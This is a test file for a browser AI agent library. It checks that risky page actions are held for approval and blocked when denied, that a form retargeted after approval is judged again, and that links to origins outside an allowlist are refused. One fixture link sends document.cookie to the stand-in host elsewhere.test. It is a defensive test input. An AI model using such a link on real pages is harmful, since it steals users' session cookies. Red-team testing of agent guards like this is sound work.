// The #19 red-team suite in Chromium: the real agent with approveAction 'risky', a scripted model
// that asks for each action, and every approval denied. Each page records any event its target gets
// (click, key, input, change, submit; links and submits are held so the page stays). Figures: every
// risky case is held and nothing of it runs; no ordinary case is held and each runs.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openPage } from '../../helpers/browser.js';
import { bundleForBrowser } from '../../helpers/bundle.js';
import { agentStep, startMockLLMServer, type MockLLMServer } from '../../helpers/mock-llm-server.js';
import { startStaticServer, type StaticServer } from '../../helpers/static-server.js';
import { ORDINARY_CASES, RISKY_CASES, type RiskCase } from '../../fixtures/risk/red-team.js';

let web: StaticServer;
let llm: MockLLMServer;
/** The action each run's model asks for first (by model name); after it, the model finishes. */
const firstAction = new Map<string, Record<string, unknown>>();

const RECORDER = `<script>
  window.acted = [];
  for (const type of ['click', 'keydown', 'input', 'change', 'submit']) {
    document.addEventListener(type, (event) => {
      if (type !== 'submit' && !event.composedPath().some((node) => node.hasAttribute?.('data-t'))) return;
      window.acted.push(type);
      if (type === 'click' || type === 'submit') event.preventDefault();
    }, true);
  }
</script>`;

beforeAll(async () => {
  const bundle = await bundleForBrowser('test/fixtures/agent/e2e-entry.ts', 'AgentLib');
  [web, llm] = await Promise.all([startStaticServer(), startMockLLMServer()]);
  web.route('/agent-bundle.js', { body: bundle, type: 'text/javascript' });
  web.route('/changes.html', { body: `<!doctype html><meta charset=utf-8><title>Changes</title><script src="/agent-bundle.js"></script><body><form action="/posts" method=post><textarea name=body>Hi</textarea><button data-t>Continue</button></form>${RECORDER}</body>` });
  for (const testCase of [...RISKY_CASES, ...ORDINARY_CASES]) {
    web.route(`/case/${testCase.id}.html`, { body: `<!doctype html><meta charset=utf-8><title>${testCase.id}</title><script src="/agent-bundle.js"></script><body>${testCase.html}${RECORDER}</body>` });
  }
  web.route('/origins.html', {
    body: `<!doctype html><meta charset=utf-8><title>Origins</title><script src="/agent-bundle.js"></script><body>
      <a id=partner href="https://partner.test/deal">Partner deal</a>
      <a id=elsewhere href="https://elsewhere.test/deal">Other deal</a>
      <a id=script-elsewhere href="javascript:location.assign('https://elsewhere.test/x?d='+document.cookie)">Show more</a>
      <form action="https://elsewhere.test/collect"><input id=form-elsewhere name=q aria-label=Search></form>
      <a id=same-site href="/help">Help</a>${RECORDER}</body>`,
  });
  llm.setHandler((request) => {
    const action = firstAction.get(request.body.model);
    const user = request.body.messages.find((m: { role: string }) => m.role === 'user').content as string;
    if (!action || !user.includes('Step 1 of')) return agentStep({ done: { text: 'finished', success: true } });
    return agentStep(action);
  });
});
afterAll(async () => {
  await Promise.all([web?.close(), llm?.close()]);
});

interface Outcome {
  approvals: Array<{ reason?: string }>;
  acted: string[];
  output: string;
}

/** Runs one case: the model asks for the case's action on its target, every approval is denied. */
async function runCase(page: Page, testCase: RiskCase): Promise<Outcome> {
  await page.goto(web.url(`/case/${testCase.id}.html`));
  const index = await page.evaluate(async () => {
    const lib = (window as any).AgentLib;
    const controller = new lib.PageController({ enableMask: false });
    (window as any).controller = controller;
    await controller.getBrowserState();
    return controller.registry.indexOf(document.querySelector('[data-t]'));
  });
  expect(index, `${testCase.id}: the target has an index`).toBeTypeOf('number');
  const model = `red-team-${testCase.id}`;
  firstAction.set(model, { [testCase.tool]: { index, ...testCase.input } });
  return page.evaluate(
    async ({ baseURL, model }) => {
      const lib = (window as any).AgentLib;
      const agent = new lib.PageAgentCore({ baseURL, model, retryDelay: 10, maxSteps: 3, approveAction: 'risky', pageController: (window as any).controller });
      const approvals: Array<{ reason?: string }> = [];
      agent.addEventListener('activity', (event: CustomEvent) => {
        if (event.detail.type !== 'approval') return;
        approvals.push({ reason: event.detail.reason });
        agent.respondToApproval(false);
      });
      const result = await agent.execute('Do the thing.');
      const step = result.history.find((entry: any) => entry.type === 'step');
      return { approvals, acted: (window as any).acted, output: step?.action?.output ?? '' };
    },
    { baseURL: llm.baseURL, model },
  );
}

/** Each case is a whole agent run (~0.4 s alone); under a loaded full suite a set takes well over the default 30 s. */
const CASES_TIMEOUT = 180_000;

describe('red team with every approval denied', () => {
  it(`holds every risky kind (${RISKY_CASES.length} cases in ${new Set(RISKY_CASES.map((c) => c.lang)).size} languages) and runs none`, async () => {
    const { context, page, errors } = await openPage();
    const ranWithoutAsking: string[] = [];
    for (const testCase of RISKY_CASES) {
      const outcome = await runCase(page, testCase);
      if (outcome.approvals.length === 0 || outcome.acted.length > 0) ranWithoutAsking.push(`${testCase.id}: ${JSON.stringify(outcome)}`);
      else expect(outcome.output, testCase.id).toMatch(/^Denied by the user \(held because it .+\): the action was not run\. /);
    }
    expect(ranWithoutAsking).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  }, CASES_TIMEOUT);

  it(`lets the ordinary set (${ORDINARY_CASES.length} cases) run without asking`, async () => {
    const { context, page, errors } = await openPage();
    const falseAlarms: string[] = [];
    for (const testCase of ORDINARY_CASES) {
      const outcome = await runCase(page, testCase);
      if (outcome.approvals.length > 0) falseAlarms.push(`${testCase.id}: ${outcome.approvals[0]!.reason}`);
      expect(outcome.acted.length, `${testCase.id} ran`).toBeGreaterThan(0);
    }
    // The issue allows 1 false alarm in 20; the set has none today, and that is what this pins.
    expect(falseAlarms).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  }, CASES_TIMEOUT);
});

describe('a target that changes after the decision', () => {
  it('is judged again just before acting, and not run when its risk changed', async () => {
    const { context, page, errors } = await openPage();
    await page.goto(web.url('/changes.html'));
    const index = await page.evaluate(async () => {
      const controller = new (window as any).AgentLib.PageController({ enableMask: false });
      (window as any).controller = controller;
      await controller.getBrowserState();
      return controller.registry.indexOf(document.querySelector('[data-t]'));
    });
    firstAction.set('red-team-changes', { click_element_by_index: { index } });
    const outcome = await page.evaluate(async (baseURL) => {
      const seen: Array<string | undefined> = [];
      const agent = new (window as any).AgentLib.PageAgentCore({
        baseURL, model: 'red-team-changes', retryDelay: 10, maxSteps: 3, pageController: (window as any).controller,
        // The policy allows what it saw (nothing risky); meanwhile the page points the form at a charge.
        approveAction: async (_tool: string, _input: unknown, context: { reason?: string }) => {
          seen.push(context.reason);
          document.querySelector('form')!.setAttribute('action', '/api/charge');
          return true;
        },
      });
      const result = await agent.execute('Continue.');
      return { seen, acted: (window as any).acted, output: result.history.find((e: any) => e.type === 'step').action.output };
    }, llm.baseURL);
    expect(outcome.seen[0]).toBeUndefined();
    expect(outcome.acted).toEqual([]);
    expect(outcome.output).toBe('Not run: the target changed after the decision (now it posts a form to “/api/charge”); read the page again.');
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('allowedOrigins (#15)', () => {
  it('refuses links and forms to other origins not in the list, whatever approveAction says, and lets the rest run', async () => {
    const { context, page, errors } = await openPage();
    await page.goto(web.url('/origins.html'));
    await page.evaluate(async () => {
      (window as any).controller = new (window as any).AgentLib.PageController({ enableMask: false });
      await (window as any).controller.getBrowserState();
    });
    const outcomes: Record<string, { output: string; acted: string[] }> = {};
    for (const id of ['partner', 'elsewhere', 'script-elsewhere', 'form-elsewhere', 'same-site']) {
      const index = await page.evaluate((id) => {
        (window as any).acted = [];
        document.querySelector('[data-t]')?.removeAttribute('data-t');
        document.getElementById(id)!.setAttribute('data-t', '');
        return (window as any).controller.registry.indexOf(document.getElementById(id));
      }, id);
      firstAction.set(`origins-${id}`, id === 'form-elsewhere' ? { press_key: { index, key: 'Enter' } } : { click_element_by_index: { index } });
      outcomes[id] = await page.evaluate(
        async ({ baseURL, model }) => {
          const lib = (window as any).AgentLib;
          const agent = new lib.PageAgentCore({ baseURL, model, retryDelay: 10, maxSteps: 2, allowedOrigins: ['https://partner.test'], pageController: (window as any).controller });
          const result = await agent.execute('Go.');
          return { output: result.history.find((e: any) => e.type === 'step').action.output, acted: (window as any).acted };
        },
        { baseURL: llm.baseURL, model: `origins-${id}` },
      );
    }
    for (const id of ['elsewhere', 'script-elsewhere', 'form-elsewhere']) {
      expect(outcomes[id]!.acted, id).toEqual([]);
      expect(outcomes[id]!.output, id).toBe('Not run: it opens https://elsewhere.test, not in allowedOrigins.');
    }
    for (const id of ['partner', 'same-site']) expect(outcomes[id]!.acted, id).toContain('click');
    expect(errors).toEqual([]);
    await context.close();
  });

  it('is checked when the agent is created: a path or a bare host is refused by name', async () => {
    const { context, page } = await openPage();
    await page.goto(web.url('/origins.html'));
    const messages = await page.evaluate(() => {
      const lib = (window as any).AgentLib;
      return [['https://partner.test/shop'], ['partner.test'], 'https://partner.test'].map((allowedOrigins) => {
        try {
          new lib.PageAgentCore({ baseURL: 'http://x.test', model: 'm', allowedOrigins, pageController: new lib.PageController({}) });
          return 'accepted';
        } catch (error) {
          return (error as Error).message;
        }
      });
    });
    for (const message of messages) expect(message).toMatch(/allowedOrigins/);
    await context.close();
  });
});
